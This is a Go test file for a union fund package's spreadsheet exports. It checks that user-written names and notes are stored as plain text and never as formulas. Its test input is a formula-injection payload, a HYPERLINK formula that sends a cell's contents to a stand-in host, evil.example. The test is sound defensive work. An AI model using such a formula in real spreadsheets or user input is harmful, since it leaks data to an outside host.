package fund_test

import (
	"bytes"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/unionbot/unionbot/union/fund"
)

// What people wrote stays a text: a spreadsheet computes nothing of it.
func TestNothingThatPeopleWroteIsAFormulaInALedger(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&E3,"说明")`
	month := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	ledger, err := fund.Sheet(evil, month, []fund.Entry{{At: month, Year: 2026, Kind: fund.Paid, Number: "BF26-0001", Fen: 100, Name: evil, Note: evil}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	awards, err := fund.AwardSheet(fund.AwardList{Month: month, Lines: []fund.Awarded{{
		At: month, Service: "suggestion", Number: "JY26-0001", Name: evil, StaffNo: evil, Unit: "集团/" + evil, Fen: 100, Share: 100,
	}}}, func(string) string { return evil })
	if err != nil {
		t.Fatal(err)
	}
	for name, file := range map[string][]byte{"ledger": ledger, "awards": awards} {
		book, err := excelize.OpenReader(bytes.NewReader(file))
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, sheet := range book.GetSheetList() {
			rows, err := book.GetRows(sheet)
			if err != nil {
				t.Fatal(err)
			}
			for y, row := range rows {
				for x, text := range row {
					cell, err := excelize.CoordinatesToCellName(x+1, y+1)
					if err != nil {
						t.Fatal(err)
					}
					if formula, err := book.GetCellFormula(sheet, cell); err != nil || formula != "" {
						t.Errorf("%s: %s %s is the formula %q, %v", name, sheet, cell, formula, err)
					}
					if text == evil {
						found++
					}
				}
			}
		}
		if found == 0 {
			t.Errorf("%s: what was written is not in it", name)
		}
		_ = book.Close()
	}
}
